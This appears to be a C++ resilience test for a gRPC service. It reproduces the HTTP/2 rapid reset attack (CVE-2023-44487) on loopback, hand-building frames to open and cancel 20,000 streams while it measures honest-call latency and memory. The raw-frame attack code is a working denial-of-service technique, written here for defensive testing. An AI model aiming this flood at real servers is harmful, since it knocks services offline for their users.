// HTTP/2 rapid reset (CVE-2023-44487) against a real ServerRunner: one connection opens 20,000
// streams and resets each one at once, as fast as it can, with a raw HTTP/2 client (gRPC's own
// client never does this). gRPC 1.51 predates the upstream fix, so this pins what the server
// still guarantees on its own: no handler runs for a reset stream, every honest call on another
// connection is answered (retried while the attack lasts), the server answers promptly once the
// attacking connection is gone, and memory stays under a coarse bound (1 GiB). What it does not
// guarantee: honest calls' latency during the attack (the slowest of 50 took from 10 ms to 19 s
// in runs here) and a tight memory bound (RSS grew by 15 to 400 MiB). The figures are printed;
// docs/reliability.md records them, and docs/operations.md asks for a proxy with the upstream fix
// in front of the services in production.

#include <arpa/inet.h>
#include <netinet/in.h>
#include <sys/socket.h>
#include <unistd.h>

#include <algorithm>
#include <atomic>
#include <chrono>
#include <cstdint>
#include <fstream>
#include <iostream>
#include <string>
#include <thread>
#include <vector>

#include <gtest/gtest.h>

#include "tests/common/server/echo_fixture.h"

namespace skillbridge {
namespace {

using echo::v1::EchoRequest;
using echo::v1::EchoResponse;
using testing::CallEcho;
using testing::EchoServer;
using testing::kAdminToken;

// Resident memory of this process, in KiB.
long ResidentKib() {
  std::ifstream status("/proc/self/status");
  std::string line;
  while (std::getline(status, line)) {
    if (line.rfind("VmRSS:", 0) == 0) {
      return std::stol(line.substr(6));
    }
  }
  return 0;
}

// One HTTP/2 frame: 9-byte header (length, type, flags, stream id) and payload.
std::string Frame(uint8_t type, uint8_t flags, uint32_t stream, const std::string& payload) {
  std::string frame;
  const uint32_t length = static_cast<uint32_t>(payload.size());
  frame.push_back(static_cast<char>((length >> 16) & 0xFF));
  frame.push_back(static_cast<char>((length >> 8) & 0xFF));
  frame.push_back(static_cast<char>(length & 0xFF));
  frame.push_back(static_cast<char>(type));
  frame.push_back(static_cast<char>(flags));
  frame.push_back(static_cast<char>((stream >> 24) & 0x7F));
  frame.push_back(static_cast<char>((stream >> 16) & 0xFF));
  frame.push_back(static_cast<char>((stream >> 8) & 0xFF));
  frame.push_back(static_cast<char>(stream & 0xFF));
  frame += payload;
  return frame;
}

// HPACK: a literal header field without indexing whose name is static-table entry `index` (or
// a new name when `index` is 0); lengths below 127, no Huffman coding.
std::string Literal(uint8_t index, const std::string& name, const std::string& value) {
  std::string out;
  if (index == 0) {
    out.push_back(0x00);
    out.push_back(static_cast<char>(name.size()));
    out += name;
  } else if (index < 15) {
    out.push_back(static_cast<char>(index));
  } else {
    out.push_back(0x0F);
    out.push_back(static_cast<char>(index - 15));
  }
  out.push_back(static_cast<char>(value.size()));
  out += value;
  return out;
}

// The HEADERS block of a gRPC call of Echo without a token.
std::string EchoHeaders() {
  std::string block;
  block.push_back(static_cast<char>(0x83));  // :method: POST
  block.push_back(static_cast<char>(0x86));  // :scheme: http
  block += Literal(4, "", "/skillbridge.echo.v1.EchoService/Echo");
  block += Literal(1, "", "localhost");
  block += Literal(31, "", "application/grpc");
  block += Literal(0, "te", "trailers");
  return block;
}

TEST(RapidResetTest, StreamsResetAtOnceDoNotStarveOtherCallersOrGrowMemory) {
  std::atomic<int> handler_runs{0};
  EchoServer::Options options;
  options.handler = [&handler_runs](const CallContext&, const EchoRequest& request, EchoResponse* response) {
    ++handler_runs;
    response->set_payload(request.payload());
    return absl::OkStatus();
  };
  EchoServer server(std::move(options));
  ASSERT_TRUE(server.Start().ok());
  const int port = server.runner().port();
  auto stub = server.stub();
  ASSERT_TRUE(CallEcho(*stub, kAdminToken, "warm").ok());
  const long rss_before = ResidentKib();

  const int fd = socket(AF_INET, SOCK_STREAM, 0);
  ASSERT_GE(fd, 0);
  sockaddr_in address{};
  address.sin_family = AF_INET;
  address.sin_port = htons(static_cast<uint16_t>(port));
  address.sin_addr.s_addr = htonl(INADDR_LOOPBACK);
  ASSERT_EQ(connect(fd, reinterpret_cast<sockaddr*>(&address), sizeof(address)), 0);
  std::atomic<bool> done{false};
  std::atomic<bool> closed_by_server{false};
  // Drain what the server sends (and acknowledge its SETTINGS), so it never blocks on us.
  std::thread reader([&] {
    std::string pending;
    char buffer[65536];
    bool acked = false;
    while (!done.load()) {
      const ssize_t got = recv(fd, buffer, sizeof(buffer), 0);
      if (got <= 0) {
        closed_by_server = got == 0;
        return;
      }
      if (!acked) {
        pending.append(buffer, static_cast<size_t>(got));
        if (pending.size() >= 9 && pending[3] == 0x04) {
          const std::string ack = Frame(0x04, 0x01, 0, "");
          (void)send(fd, ack.data(), ack.size(), MSG_NOSIGNAL);
          acked = true;
        }
      }
    }
  });

  const std::string preface = std::string("PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n") + Frame(0x04, 0, 0, "");
  ASSERT_EQ(send(fd, preface.data(), preface.size(), MSG_NOSIGNAL), static_cast<ssize_t>(preface.size()));
  const std::string headers = EchoHeaders();
  const std::string cancel("\x00\x00\x00\x08", 4);  // RST_STREAM error code CANCEL
  constexpr uint32_t kStreams = 20000;
  std::atomic<uint32_t> sent{0};
  std::thread attacker([&] {
    std::string batch;
    for (uint32_t i = 0; i < kStreams && !closed_by_server.load(); ++i) {
      const uint32_t stream = 1 + 2 * i;
      batch += Frame(0x01, 0x04, stream, headers);  // HEADERS, END_HEADERS
      batch += Frame(0x03, 0x00, stream, cancel);   // RST_STREAM
      if (batch.size() > 32 * 1024) {
        if (send(fd, batch.data(), batch.size(), MSG_NOSIGNAL) < 0) {
          return;
        }
        batch.clear();
      }
      sent = i + 1;
    }
    (void)send(fd, batch.data(), batch.size(), MSG_NOSIGNAL);
  });

  // Meanwhile, an honest client on its own connection, retrying what the attack delayed.
  std::vector<double> latencies_ms;
  int retried = 0;
  int answered = 0;
  for (int i = 0; i < 50; ++i) {
    const auto begin = std::chrono::steady_clock::now();
    for (int attempt = 0; attempt < 12; ++attempt) {
      EchoResponse response;
      if (CallEcho(*stub, kAdminToken, "honest", &response, "", /*deadline_ms=*/5000).ok()) {
        ++answered;
        break;
      }
      ++retried;
    }
    latencies_ms.push_back(std::chrono::duration<double, std::milli>(std::chrono::steady_clock::now() - begin).count());
    std::this_thread::sleep_for(std::chrono::milliseconds(10));
  }
  attacker.join();
  done = true;
  shutdown(fd, SHUT_RDWR);
  reader.join();
  close(fd);
  const long rss_after = ResidentKib();

  std::sort(latencies_ms.begin(), latencies_ms.end());
  std::cerr << "rapid reset: " << sent.load() << " streams opened and reset"
            << (closed_by_server.load() ? " (then the server closed the connection)" : "") << "; honest calls p50 "
            << latencies_ms[latencies_ms.size() / 2] << " ms, max " << latencies_ms.back() << " ms, " << retried
            << " retried; RSS " << rss_before / 1024 << " -> " << rss_after / 1024 << " MiB\n";
  EXPECT_EQ(answered, 50) << "every honest call answered";
#if defined(__SANITIZE_ADDRESS__)
  constexpr long kBoundKib = 3 * 1024 * 1024;  // AddressSanitizer's allocator and quarantine on top
#else
  constexpr long kBoundKib = 1024 * 1024;
#endif
  EXPECT_LT(rss_after - rss_before, kBoundKib) << "memory under the coarse bound (KiB)";
  // Once the attacker is gone the server answers at once.
  const auto begin = std::chrono::steady_clock::now();
  EXPECT_TRUE(CallEcho(*stub, kAdminToken, "after", nullptr, "", /*deadline_ms=*/2000).ok());
  EXPECT_LT(std::chrono::steady_clock::now() - begin, std::chrono::seconds(2));
  // Only the honest calls reached the handler: a reset stream never carries a message.
  // (a retried call may or may not have run before its deadline; none of the 20,000 did).
  EXPECT_GE(handler_runs.load(), 1 + answered + 1);
  EXPECT_LE(handler_runs.load(), 1 + answered + retried + 1);
}

}  // namespace
}  // namespace skillbridge
